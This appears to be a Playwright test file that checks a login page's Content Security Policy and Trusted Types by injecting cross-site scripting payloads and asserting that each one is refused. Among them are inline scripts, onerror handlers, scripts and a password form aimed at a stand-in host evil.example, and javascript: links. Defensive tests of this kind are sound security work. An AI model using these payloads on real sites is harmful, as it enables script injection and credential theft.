// What is injected into a page does not run: the Content Security Policy refuses it, Trusted Types before that.

import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures';
import { hydrated } from '../fixtures/hydration';

const MARK = 'window.injected = (window.injected || 0) + 1';

async function injected(page: Page): Promise<number> {
  return page.evaluate(() => (window as unknown as { injected?: number }).injected ?? 0);
}

/** Puts `html` at the end of the page as the server would if it failed to escape something; the headers stay as they are. */
async function serveWith(page: Page, path: string, html: string): Promise<void> {
  await page.route(path, async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replace('</body>', `${html}</body>`);
    await route.fulfill({ response: answer, body });
  });
}

const IN_THE_HTML: Record<string, [html: string, directive: RegExp]> = {
  'a script': [`<script>${MARK}</script>`, /^script-src-elem inline/],
  'a script from elsewhere': ['<script src="https://evil.example/x.js"></script>', /^script-src-elem https:\/\/evil\.example/],
  'a script of this site without the nonce': ['<script src="/pkg/x.js"></script>', /^script-src-elem http/],
  'an event handler': [`<img src="data:," alt="" onerror="${MARK}">`, /^script-src-attr inline/],
  'an iframe': ['<iframe src="https://evil.example/" title="x"></iframe>', /^frame-src https:\/\/evil\.example/],
  'an iframe of this site': ['<iframe src="/login" title="x"></iframe>', /^frame-src/],
  'an object': ['<object data="https://evil.example/x"></object>', /^object-src/],
  'a base address': ['<base href="https://evil.example/">', /^base-uri https:\/\/evil\.example/],
  'a style': ['<style>body { display: none }</style>', /^style-src-elem inline/],
  'a style attribute': ['<p style="position: fixed">x</p>', /^style-src-attr inline/],
  'an image from elsewhere': ['<img src="https://evil.example/x.png" alt="">', /^img-src https:\/\/evil\.example/],
};

for (const [what, [html, directive]] of Object.entries(IN_THE_HTML)) {
  test(`${what} in the HTML is refused`, async ({ page, signInPage, policy, browserConsole }) => {
    policy.expects(directive);
    browserConsole.expects(/Content Security Policy/i);
    await serveWith(page, '/login', html);
    await page.goto('/login', { waitUntil: 'domcontentloaded' });
    await expect(signInPage.heading).toBeVisible();
    await expect.poll(() => policy.refused.some((violation) => directive.test(violation))).toBe(true);
    expect(await injected(page)).toBe(0);
  });
}

test('srcdoc in the HTML runs nothing', async ({ page, signInPage, policy, browserConsole }) => {
  // A document of srcdoc inherits the policy, and its refusals are reported inside it.
  browserConsole.expects(/Content Security Policy/i);
  policy.expects(/script-src-elem inline/);
  await serveWith(page, '/login', `<iframe title="x" srcdoc="<script>parent.injected = 1</script>"></iframe>`);
  await page.goto('/login');
  await expect(signInPage.heading).toBeVisible();
  await expect.poll(() => policy.refused.length).toBeGreaterThan(0);
  expect(await injected(page)).toBe(0);
});

test('a javascript: address is not followed', async ({ page, signInPage, policy, browserConsole }) => {
  policy.expects(/^script-src-elem inline/);
  browserConsole.expects(/Content Security Policy/i);
  await serveWith(page, '/login', `<a href="javascript:${MARK}">trap</a>`);
  await page.goto('/login');
  await page.getByRole('link', { name: 'trap' }).click();
  await expect(signInPage.heading).toBeVisible();
  await expect.poll(() => policy.refused.length).toBeGreaterThan(0);
  expect(await injected(page)).toBe(0);
});

test('a form that is injected can\'t send a password elsewhere', async ({ page, policy, browserConsole }) => {
  policy.expects(/^form-action https:\/\/evil\.example/);
  browserConsole.expects(/Content Security Policy/i);
  const sent: string[] = [];
  page.on('request', (request) => sent.push(new URL(request.url()).hostname));
  await serveWith(page, '/login', '<form action="https://evil.example/" method="post"><button>trap</button></form>');
  await page.goto('/login');
  await page.getByRole('button', { name: 'trap' }).click({ noWaitAfter: true });
  await expect.poll(() => policy.refused.length).toBeGreaterThan(0);
  expect(sent).not.toContain('evil.example');
  // For Playwright the navigation that was refused stays pending for ever.
  await page.close();
});

/** What a script that has got into the page would try, to get more in. Each runs as the page's own code would. */
const BY_SCRIPT: Record<string, string> = {
  'the text of a script': `const s = document.createElement('script'); s.textContent = ${JSON.stringify(MARK)}; document.body.append(s);`,
  'the address of a script': `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s);`,
  'innerHTML with an event handler': `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(`<img src=x onerror="${MARK}">`)});`,
  'innerHTML of an element': `const d = document.createElement('div'); d.innerHTML = ${JSON.stringify(`<img src=x onerror="${MARK}">`)}; document.body.append(d);`,
  'an event handler as an attribute': `document.body.setAttribute('onclick', ${JSON.stringify(MARK)}); document.body.click();`,
  'srcdoc': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.injected = 1</script>'; document.body.append(f);`,
  'eval': `eval(${JSON.stringify(MARK)});`,
  'a function made from text': `new Function(${JSON.stringify(MARK)})();`,
  'a timer with text': `window.setTimeout(${JSON.stringify(MARK)}, 0);`,
  'document.write': `document.write(${JSON.stringify(`<script>${MARK}</script>`)});`,
  'a worker': `new Worker('/pkg/x.js');`,
};

/** Those of them that the policy refuses by an error of its own; all others are refused by Trusted Types. */
const COMPILED = ['eval', 'a function made from text'];

for (const [what, script] of Object.entries(BY_SCRIPT)) {
  test(`${what}, tried by a script, is refused`, async ({ page, signInPage, policy, browserConsole }) => {
    browserConsole.expects(/Trusted|Content Security Policy|createPolicy/i);
    policy.expects(/^(require-trusted-types-for|script-src|worker-src)/);
    // The page's own first script, which has the nonce, is made the attacker's foothold.
    await page.route('/login', async (route) => {
      const answer = await route.fetch();
      const foothold = `self.attack = () => { ${script.replaceAll('</script>', '<\\/script>')} };`;
      const body = (await answer.text()).replace(/(<script type="module" nonce="?[^">]+"?>)/, `$1${foothold}`);
      expect(body).toContain('self.attack');
      await route.fulfill({ response: answer, body });
    });
    await page.goto('/login');
    await hydrated(page);
    const outcome = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          // Not called straight from here: what a debugger evaluates may do more than a page.
          setTimeout(() => {
            try {
              (self as unknown as { attack(): void }).attack();
              resolve('no error');
            } catch (error) {
              resolve((error as Error).name);
            }
          });
        }),
    );
    expect(outcome).toBe(COMPILED.includes(what) ? 'EvalError' : 'TypeError');
    await expect.poll(() => policy.refused.length).toBeGreaterThan(0);
    await expect(signInPage.heading).toBeVisible();
    expect(await injected(page)).toBe(0);
  });
}

test('a name of HTML is shown as text wherever it could be put', async ({ page, signInPage, browserConsole }) => {
  browserConsole.expectsStatus(401, 422);
  const name = '</script><img src=x onerror=alert(1)>';
  await signInPage.open();
  await signInPage.fill({ username: name, password: 'quiet harbour lantern' });
  await expect(signInPage.alert).toBeVisible();
  // Posted, so that the server writes it into the HTML.
  await page.evaluate(() => (document.querySelector('main form') as HTMLFormElement).submit());
  await expect(signInPage.alert).toBeVisible();
  await expect(signInPage.username).toHaveValue(name);
  await expect(page.getByRole('main').getByRole('img')).toHaveCount(0);
  await hydrated(page);
  await expect(signInPage.username).toHaveValue(name);
  await page.goto(`/login?next=${encodeURIComponent(`/"><img src=x onerror=alert(1)>`)}`);
  await expect(page.getByRole('main').getByRole('img')).toHaveCount(0);
});

test('each answer has a nonce of its own, and its policy is strict', async ({ page }) => {
  const policies = [];
  for (let load = 0; load < 2; load += 1) {
    policies.push((await (await page.goto('/login'))!.allHeaders())['content-security-policy']!);
  }
  const nonce = (policy: string) => /'nonce-([^']+)'/.exec(policy)![1];
  expect(nonce(policies[0]!)).not.toBe(nonce(policies[1]!));
  for (const policy of policies) {
    expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'/);
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).toContain("frame-ancestors 'none'");
  }
});
